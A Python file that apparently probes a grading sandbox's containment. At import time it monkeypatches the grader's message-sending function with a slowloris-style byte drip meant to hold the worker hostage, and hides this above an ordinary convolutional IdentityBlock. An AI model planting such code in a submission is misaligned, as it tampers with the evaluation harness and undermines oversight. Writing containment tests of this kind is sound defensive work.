"""Attack: hold the worker hostage by sending its reply one byte at a time, each byte just before
the socket's timeout would fire (a slowloris on the job channel). Contained when the job still ends
at its wall-clock limit."""

import os
import sys

import torch
from torch import nn


def attempt(label, fn):
    """One probe: prints LEAK when it got what it must not, BLOCKED when the sandbox refused."""
    try:
        got = fn()
    except BaseException as exc:  # noqa: BLE001
        print(f"BLOCKED {label}: {type(exc).__name__}: {str(exc)[:100]}")
        return None
    print(f"LEAK {label}: {str(got)[:200]!r}")
    return got

import struct
import time

import grader.inside.runner as runner


def drip(sock, header, blobs=None):
    """A well-formed start (a 1 MB header is announced), then one byte of JSON padding at a time."""
    for b in struct.pack("!II", 1 << 20, 0) + b"{" + b" " * (1 << 20):
        sock.send(bytes([b]))
        time.sleep(0.5)


runner.send_message = drip


class IdentityBlock(nn.Module):
    def __init__(self, channels: int, kernel_size: int = 3):
        super().__init__()
        pad = kernel_size // 2
        self.conv1 = nn.Conv2d(channels, channels, kernel_size, padding=pad, bias=False)
        self.bn1 = nn.BatchNorm2d(channels)
        self.conv2 = nn.Conv2d(channels, channels, kernel_size, padding=pad, bias=False)
        self.bn2 = nn.BatchNorm2d(channels)

    def forward(self, x):
        out = torch.relu(self.bn1(self.conv1(x)))
        return torch.relu(self.bn2(self.conv2(out)))
